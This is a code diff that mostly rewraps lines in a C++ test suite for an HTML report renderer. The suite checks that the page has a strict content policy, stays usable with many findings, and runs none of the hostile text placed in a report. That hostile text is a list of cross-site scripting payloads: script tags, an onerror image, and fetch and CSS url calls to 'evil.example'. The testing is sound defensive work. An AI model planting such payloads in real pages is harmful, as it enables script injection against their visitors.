@@ -19,10 +19,12 @@ std::string html(const Report& report, const RenderOptions& options = {}) {
   return find_renderer("html")->render(report, options);
 }
 
-/// Ways into a page: markup, attributes, addresses, template and script ends, each with a mark if it runs.
+/// Ways into a page: markup, attributes, addresses, template and script ends, each with a mark if
+/// it runs.
 std::vector<std::string> payloads() {
   std::vector<std::string> texts = test::hostile_texts();
-  const std::vector<std::string> code{"window.pwned=1", "alert(1)", "fetch('https://evil.example/')"};
+  const std::vector<std::string> code{"window.pwned=1", "alert(1)",
+                                      "fetch('https://evil.example/')"};
   const std::vector<std::pair<std::string, std::string>> around{
       {"<script>", "</script>"},
       {"</script><script>", "</script>"},
@@ -60,7 +62,8 @@ std::vector<std::string> payloads() {
       {"<x style=\"background:url(https://evil.example/)\" onclick=", ">x</x>"},
   };
   for (const auto& [before, after] : around)
-    for (const auto& each : code) texts.push_back(before + each + after);
+    for (const auto& each : code)
+      texts.push_back(before + each + after);
   return texts;
 }
 
@@ -71,7 +74,8 @@ Report attacked() {
   report.rules.clear();
   for (const auto& text : payloads()) {
     auto finding = model;
-    finding.rule = finding.path = finding.message = finding.why = finding.help = finding.symbol = text;
+    finding.rule = finding.path = finding.message = finding.why = finding.help = finding.symbol =
+        text;
     finding.frame = {1, {text, text}};
     finding.related = {{test::place(1, 1, 1, 2), text, {1, {text}}}};
     finding.tools = {text};
@@ -83,7 +87,8 @@ Report attacked() {
     report.degraded.push_back(text);
     test::add_file(report, text, CoverageStatus::skipped, 1, text);
   }
-  report.change.description = report.command = report.tool_version = "</title><script>window.pwned=1</script>";
+  report.change.description = report.command = report.tool_version =
+      "</title><script>window.pwned=1</script>";
   report.complexity = {{"<img src=x onerror=alert(1)>", {"<script>alert(1)</script>", 1, 2, 3, 4}}};
   decide(report);
   return report;
@@ -92,7 +97,8 @@ Report attacked() {
 TEST(Html, IsOnePageThatAsksForNothing) {
   const auto page = html(test::sample_report());
   EXPECT_THAT(page, HasSubstr("default-src 'none'"));
-  for (const auto* word : {"http-equiv=\"refresh\"", "@import", "src=\"", "url("}) EXPECT_THAT(page, Not(HasSubstr(word)));
+  for (const auto* word : {"http-equiv=\"refresh\"", "@import", "src=\"", "url("})
+    EXPECT_THAT(page, Not(HasSubstr(word)));
   EXPECT_THAT(page, HasSubstr("Peer 0.1.0"));
   EXPECT_THAT(html(test::incomplete_report()), HasSubstr("over the limit"));
 }
@@ -105,12 +111,15 @@ TEST(Html, WorksInABrowserWithKeysFiltersThemesAndForEveryone) {
   report.findings[1].confidence = 0.85;  // so that every limit parts them
   report.findings[2].confidence = 0.7;
   RenderOptions options;
-  options.history = {{"2026-11-01 03:00", "aaaa", 9, false, 0, 0, 0}, {"2026-11-08 03:00", "bbbb", 3, true, 1, 7, 2}};
+  options.history = {{"2026-11-01 03:00", "aaaa", 9, false, 0, 0, 0},
+                     {"2026-11-08 03:00", "bbbb", 3, true, 1, 7, 2}};
   const auto file = folder.write("sample.html", html(report, options));
   const auto pictures = std::filesystem::path(PEER_SOURCE_DIR) / "build" / "screenshots";
   std::filesystem::create_directories(pictures);
-  for (const auto* scheme : {"light", "dark"}) std::filesystem::remove(pictures / ("report-" + std::string(scheme) + ".png"));
-  const auto looked = test::run(test::tool("html_page.mjs") + " sample '" + file + "' '" + pictures.string() + "'");
+  for (const auto* scheme : {"light", "dark"})
+    std::filesystem::remove(pictures / ("report-" + std::string(scheme) + ".png"));
+  const auto looked =
+      test::run(test::tool("html_page.mjs") + " sample '" + file + "' '" + pictures.string() + "'");
   EXPECT_EQ(looked.code, 0) << looked.output;
   for (const auto* scheme : {"light", "dark"}) {
     std::ifstream in(pictures / ("report-" + std::string(scheme) + ".png"), std::ios::binary);
@@ -123,7 +132,8 @@ TEST(Html, WorksInABrowserWithKeysFiltersThemesAndForEveryone) {
 TEST(Html, NothingInAReportRuns) {
   ASSERT_GE(payloads().size(), 100U);
   const test::Folder folder;
-  const auto looked = test::run(test::tool("html_page.mjs") + " hostile '" + folder.write("hostile.html", html(attacked())) + "'");
+  const auto looked = test::run(test::tool("html_page.mjs") + " hostile '" +
+                                folder.write("hostile.html", html(attacked())) + "'");
   EXPECT_EQ(looked.code, 0) << looked.output;
 }
 
@@ -141,7 +151,8 @@ TEST(Html, TenThousandFindingsStayUsable) {
   }
   decide(report);
   const test::Folder folder;
-  const auto looked = test::run(test::tool("html_page.mjs") + " large '" + folder.write("large.html", html(report)) + "'");
+  const auto looked = test::run(test::tool("html_page.mjs") + " large '" +
+                                folder.write("large.html", html(report)) + "'");
   EXPECT_EQ(looked.code, 0) << looked.output;
 }
 
